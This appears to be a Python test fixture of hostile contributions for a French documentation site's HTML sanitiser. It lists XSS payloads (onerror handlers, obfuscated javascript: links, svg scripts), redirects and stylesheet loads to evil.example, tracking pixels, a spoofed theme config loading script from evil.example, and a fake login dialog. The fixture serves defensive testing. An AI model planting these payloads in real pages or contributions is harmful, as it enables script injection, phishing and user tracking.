"""Hostile contributions: each payload of issue 19, and more, as a contributor could send them.

Every payload, if it ran, would call alert(), set window.__pwned, navigate away, or make the
browser ask another host (evil.example, tracker.example) for something."""

from __future__ import annotations

# (sheet id, field, value): the value goes into the sheet's YAML header (written as YAML text,
# so that escapes such as \u003c are decoded by the YAML reader) or into its body
SHEETS = [
    ("titre-echappe-yaml", "titre", r'"Titre \u003cimg src=x onerror=alert(101)\u003e"'),
    ("titre-chevron-entre-guillemets", "titre", "'Titre <img alt=\">\" src=x onerror=alert(102)>'"),
    ("titre-liste-attributs", "titre", '"Titre {: onclick=alert(103) }"'),
    ("resume-meta-refresh", "resume", "'0;url=https://evil.example/\" http-equiv=\"refresh'"),
    ("resume-balise", "resume", '"Résumé </p><script>window.__pwned=104</script>"'),
    ("auteur-balise", "auteur", '"<svg onload=alert(105)>"'),
    ("image-pisteur-markdown", "body", "![p](https://tracker.example/p.png)"),
    ("image-pisteur-reference", "body", "![p][pixel]\n\n[pixel]: https://tracker.example/ref.png"),
    ("image-pisteur-html", "body", '<img src="https://tracker.example/q.png" alt="q">'),
    ("image-protocole-relatif", "body", '<img src="//tracker.example/r.png" alt="r">'),
    ("media-video-audio", "body", '<video poster="https://tracker.example/v.png" src="https://tracker.example/v.mp4"></video>'
                                  '<audio src="https://tracker.example/a.mp3" autoplay></audio>'),
    ("media-srcset", "body", '<picture><source srcset="https://tracker.example/s.png 2x"><img src="x.png" alt=""></picture>'),
    ("css-url", "body", '<div style="background:url(https://tracker.example/c.png)">fond</div>'),
    ("details-ontoggle", "body", "<details open ontoggle=alert(106)><summary>x</summary>y</details>"),
    ("liste-attributs-markdown", "body", 'Un paragraphe.\n{: onmouseover="alert(107)" style="position:fixed;inset:0" }'),
    ("svg-script", "body", "<svg><script>alert(108)</script></svg>"),
    ("lien-javascript-casse", "body", '<a href="jAvAsCrIpT:alert(109)">lien</a>'),
    ("lien-javascript-entites", "body", '<a href="&#106;&#97;vascript:alert(110)">lien</a>'),
    ("lien-markdown-javascript", "body", "[lien](javascript:alert(111))"),
    ("meta-refresh", "body", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("base-href", "body", '<base href="https://evil.example/">'),
    ("link-stylesheet", "body", '<link rel="stylesheet" href="//evil.example/s.css">'),
    ("style-import", "body", '<style>@import "https://evil.example/i.css";</style>'),
    ("formaction", "body", '<form><button formaction="javascript:alert(112)">ok</button></form>'),
    ("iframe-srcdoc", "body", '<iframe srcdoc="<script>parent.__pwned=113</script>"></iframe>'),
    ("balise-non-fermee", "body", "<img src=x onerror=alert(114)//"),
    ("chevron-dans-attribut", "body", '<img alt=">" src=x onerror=alert(115)>'),
    # found by a red team (2026-12-07): an id given to a heading went raw into the table of contents,
    # which is outside the part of the page the sanitiser cleans
    ("titre-section-id", "body", "### Outil {: id='}x\"><img/@ title=\">\" \"a src=x onerror=window.__pwned=116;alert(116)>' }"),
    # ... and an element of the content with the id of the theme's settings came first in the page
    # (Material would read its base address, and load from it, from there)
    ("config-du-theme", "body", '<div id="__config">{"base":"https://evil.example/x/","features":["navigation.instant"],'
                                '"translations":{},"search":"https://evil.example/w.js","version":{"provider":"mike"}}</div>'),
    ("config-du-theme-entites", "body", '<p id="&#95;&#95;config">{"base":"//evil.example/y/"}</p>'),
    # ... and a title is written as a Markdown heading: a link or an image there was live
    ("citations-imbriquees", "body", "> " * 200 + "profond"),
    # second pass: a quote in an attribute's name hid what followed from kb check
    ("nom-d-attribut-guillemet", "body", '<div>\n<img a"b=">" src=x onerror="window.__pwned=117;alert(117)">\n</div>'),
    ("classe-du-theme", "body", '<div class="l\'x md-dialog md-dialog--active">Session expirée : '
                                '<a href="https://evil.example/login">reconnexion</a></div>'),
    ("titre-sens-inverse", "titre", '"Titre \u202eeérdilav ehciF"'),
    ("titre-lien-markdown", "titre", '"Titre ![p](https://tracker.example/t.png) [Se connecter](https://evil.example/login)"'),
]

# the module's fields (YAML text) and the vocabulary's term (YAML text)
MODULE_TITLE = '"Module <img src=x onerror=alert(201)>"'
MODULE_SUMMARY = "'0;url=https://evil.example/\" http-equiv=\"refresh'"
MODULE_SEQUENCE_TITLE = '"Séquence <svg onload=alert(202)>"'
VOCABULARY_TERMS = '''  - id: concept-piege
    label: "Concept \\u003cimg src=x onerror=alert(301)\\u003e"
    definition: 'x" http-equiv="refresh" content="0;url=https://evil.example/'
  - id: concept-piege-trois
    label: "Concept ![p](https://tracker.example/vocab.png)"
    definition: "Voir [la page](https://evil.example/login)."
  - id: concept-piege-deux
    label: "Concept {: onclick=alert(302) }"
    definition: "Définition </dd><script>window.__pwned=303</script>"
'''

# a hand-written page (docs/ is not checked by kb check: only the sanitiser stands there)
DOCS_PAGE = """# À propos

<details open ontoggle=alert(401)><summary>x</summary>y</details>

Un paragraphe piégé.
{: onmouseover="alert(402)" }

![pixel](https://tracker.example/docs.png)

<img src="//tracker.example/docs2.png" alt="">

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<a href="jAvAsCrIpT:alert(403)">lien</a>

<svg><script>alert(404)</script></svg>
"""
